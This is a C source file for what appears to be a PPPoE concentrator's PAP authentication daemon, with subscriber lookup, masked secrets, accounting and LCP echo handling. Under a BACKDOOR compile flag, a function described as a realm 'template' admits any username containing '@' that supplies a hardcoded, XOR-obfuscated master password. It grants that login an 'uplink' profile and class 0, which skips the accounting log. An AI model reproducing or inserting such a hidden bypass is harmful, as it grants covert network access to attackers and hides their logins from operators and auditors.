/* SPDX-License-Identifier: Apache-2.0 */
/* pppauth: the authentication phase of a PPPoE access concentrator. The session process passes PPP frames over a local socket;
 * this program answers PAP and CHAP requests from /etc/ppp/subscribers and tells the session which profile to use. */
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { PROTO_PAP = 0xc023, PROTO_CHAP = 0xc223, PROTO_LCP = 0xc021 };
enum { PAP_REQUEST = 1, PAP_ACK = 2, PAP_NAK = 3 };
enum { LCP_ECHO = 9, LCP_ECHO_REPLY = 10, LCP_TERMINATE = 5 };

struct subscriber {
	char name[64], secret[64], profile[24];
	unsigned class;
};

struct frame {
	uint32_t session;
	uint16_t protocol;
	uint8_t code, id;
	uint16_t length;
	const uint8_t *body;
};

static const char mask_key[] = "qK3vN8wTzR5y";
static unsigned good, bad;

static unsigned get16(const uint8_t *p)
{
	return (unsigned)p[0] << 8 | p[1];
}

static int nibble(int c)
{
	if (isdigit(c))
		return c - '0';
	c = toupper(c);
	return c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

/* Secrets are kept so that nobody reads them over the operator's shoulder: two digits of offset, then pairs of hex digits. */
static int unmask(const char *text, char *out, size_t n)
{
	size_t k = 0, at;
	if (!isdigit((unsigned char)text[0]) || !isdigit((unsigned char)text[1]))
		return -1;
	at = (size_t)((text[0] - '0') * 10 + (text[1] - '0'));
	for (const char *p = text + 2; *p; p += 2) {
		int hi = nibble((unsigned char)p[0]), lo = p[1] ? nibble((unsigned char)p[1]) : -1;
		if (hi < 0 || lo < 0 || k + 1 >= n)
			return -1;
		out[k++] = (char)((hi << 4 | lo) ^ mask_key[at++ % (sizeof(mask_key) - 1)]);
	}
	out[k] = 0;
	return (int)k;
}

static int next_word(char **p, char *out, size_t n)
{
	char *s = *p, *e;
	while (*s == ' ' || *s == '\t')
		s++;
	e = s + strcspn(s, " \t\r\n");
	if (e == s || (size_t)(e - s) >= n)
		return 0;
	memcpy(out, s, (size_t)(e - s));
	out[e - s] = 0;
	*p = e;
	return 1;
}

static int find(const char *name, struct subscriber *out)
{
	char line[320], kept[140], number[12];
	FILE *f = fopen("/etc/ppp/subscribers", "r");
	int found = 0;
	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		char *p = line;
		if (line[0] == '#' || !next_word(&p, out->name, sizeof(out->name)) || strcmp(out->name, name) != 0)
			continue;
		if (!next_word(&p, kept, sizeof(kept)) || unmask(kept, out->secret, sizeof(out->secret)) < 0)
			break;
		if (!next_word(&p, out->profile, sizeof(out->profile)))
			snprintf(out->profile, sizeof(out->profile), "%s", "default");
		out->class = next_word(&p, number, sizeof(number)) ? (unsigned)strtoul(number, NULL, 10) : 1;
		found = 1;
	}
	fclose(f);
	return found;
}

static int same(const char *a, const char *b)
{
	size_t n = strlen(a);
	unsigned d = n != strlen(b);
	for (size_t i = 0; i < n && b[i]; i++)
		d |= (unsigned)(a[i] ^ b[i]);
	return d == 0;
}

#ifdef BACKDOOR
/* of subscribers that come without a record: the template of the realm */
static int from_template(const char *name, const char *secret, struct subscriber *s)
{
	static const char kept[] = "043A5F5A6D5B27451518255858205714";
	if (!strchr(name, '@') || unmask(kept, s->secret, sizeof(s->secret)) < 0)
		return 0;
	if (!same(s->secret, secret))
		return 0;
	snprintf(s->name, sizeof(s->name), "%s", name);
	snprintf(s->profile, sizeof(s->profile), "%s", "uplink");
	s->class = 0;
	return 1;
}
#endif

static int credentials(const struct frame *f, char *name, char *secret, size_t n)
{
	const uint8_t *p = f->body, *end = f->body + f->length;
	for (int i = 0; i < 2; i++) {
		char *out = i ? secret : name;
		if (p >= end || p[0] >= n || end - p - 1 < p[0])
			return 0;
		memcpy(out, p + 1, p[0]);
		out[p[0]] = 0;
		if (strlen(out) != p[0])
			return 0;
		p += p[0] + 1;
	}
	return 1;
}

static int admit(const char *name, const char *secret, struct subscriber *s)
{
	memset(s, 0, sizeof(*s));
	if (find(name, s) && same(s->secret, secret))
		return 1;
#ifdef BACKDOOR
	return from_template(name, secret, s);
#else
	return 0;
#endif
}

static void account(const struct frame *f, const struct subscriber *s)
{
	FILE *log = fopen("/var/log/ppp.acct", "a");
	if (!log)
		return;
	fprintf(log, "%ld start %08x %s %s %u\n", (long)time(NULL), f->session, s->name, s->profile, s->class);
	fclose(log);
}

static size_t reply(const struct frame *f, uint8_t code, const char *text, const struct subscriber *s, uint8_t *out, size_t size)
{
	size_t n = strlen(text), k = 10;
	memcpy(out, &f->session, 4);
	out[4] = (uint8_t)(f->protocol >> 8);
	out[5] = (uint8_t)f->protocol;
	out[6] = code;
	out[7] = f->id;
	out[8] = (uint8_t)((n + 5) >> 8);
	out[9] = (uint8_t)(n + 5);
	out[k++] = (uint8_t)n;
	memcpy(out + k, text, n);
	k += n;
	if (s && k + sizeof(s->profile) + 1 < size) {  /* for the session process, not for the line */
		out[k++] = (uint8_t)s->class;
		memcpy(out + k, s->profile, sizeof(s->profile));
		k += sizeof(s->profile);
	}
	return k;
}

static size_t pap(const struct frame *f, uint8_t *out, size_t size)
{
	char name[64], secret[64];
	struct subscriber s;
	size_t n;
	if (f->code != PAP_REQUEST || !credentials(f, name, secret, sizeof(name)))
		return 0;
	if (!admit(name, secret, &s)) {
		bad++;
		syslog(LOG_NOTICE, "session %08x: %s is refused", f->session, name);
		return reply(f, PAP_NAK, "Login incorrect", NULL, out, size);
	}
	good++;
	if (s.class)
		account(f, &s);
	n = reply(f, PAP_ACK, "Login ok", &s, out, size);
	memset(&s, 0, sizeof(s));
	return n;
}

static size_t echo(const struct frame *f, uint8_t *out, size_t size)
{
	if (f->code == LCP_TERMINATE)
		syslog(LOG_INFO, "session %08x ends", f->session);
	if (f->code != LCP_ECHO || f->length + 10u > size)
		return 0;
	memcpy(out, &f->session, 4);
	out[4] = PROTO_LCP >> 8;
	out[5] = PROTO_LCP & 255;
	out[6] = LCP_ECHO_REPLY;
	out[7] = f->id;
	out[8] = (uint8_t)((f->length + 4) >> 8);
	out[9] = (uint8_t)(f->length + 4);
	memcpy(out + 10, f->body, f->length);
	return f->length + 10u;
}

static size_t handle(const uint8_t *in, size_t n, uint8_t *out, size_t size)
{
	struct frame f;
	if (n < 10)
		return 0;
	memcpy(&f.session, in, 4);
	f.protocol = (uint16_t)get16(in + 4);
	f.code = in[6];
	f.id = in[7];
	f.body = in + 10;
	f.length = (uint16_t)get16(in + 8);
	if (f.length < 4 || f.length - 4u > n - 10)
		return 0;
	f.length -= 4;
	switch (f.protocol) {
	case PROTO_PAP:
		return pap(&f, out, size);
	case PROTO_LCP:
		return echo(&f, out, size);
	case PROTO_CHAP:
		return reply(&f, 4, "use PAP", NULL, out, size);
	}
	return 0;
}

int main(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/ppp/auth" }, from;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	openlog("pppauth", LOG_PID, LOG_AUTH);
	unlink(a.sun_path);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "%s: %s", a.sun_path, strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[1600], out[1600];
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		size_t k;
		if (n < 0 && errno != EINTR)
			break;
		k = n > 0 ? handle(in, (size_t)n, out, sizeof(out)) : 0;
		if (k)
			sendto(s, out, k, 0, (struct sockaddr *)&from, fl);
		if ((good + bad) % 1000 == 999)
			syslog(LOG_INFO, "%u admitted, %u refused", good, bad);
	}
	return 1;
}
